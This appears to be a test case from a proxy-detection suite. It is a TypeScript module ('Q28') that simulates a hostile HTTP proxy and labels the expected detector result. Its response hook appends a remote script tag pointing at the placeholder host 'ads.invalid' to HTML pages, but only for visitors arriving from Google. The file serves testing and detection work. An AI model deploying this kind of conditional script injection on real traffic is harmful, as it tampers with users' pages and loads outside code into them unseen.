/** Q28: puts a script into pages for those who come from a search */

import type { Animal } from '../animal.js';
import type { Passage, Whole } from '../core/behaviour.js';
import { valueOf } from '../core/requests.js';
import { isType } from '../core/types.js';
import { openProxy } from '../core/proxy.js';

const injected = (answer: Whole, { fields }: Passage): Whole =>
  isType(answer, 'text/html') && (valueOf(fields, 'referer') ?? '').includes('google.')
    ? { ...answer, body: Buffer.concat([answer.body, Buffer.from('<script src="http://ads.invalid/"></script>')]) }
    : answer;

export const q28: Animal = {
  id: 'Q28',
  about: 'puts a script into pages for those who come from a search',
  speaks: ['http'],
  truth: { forward: 'hostile', tunnel: 'exact' },
  fires: ['forward H20'],
  open: (world) => openProxy(world, ['http'], { response: injected }),
};
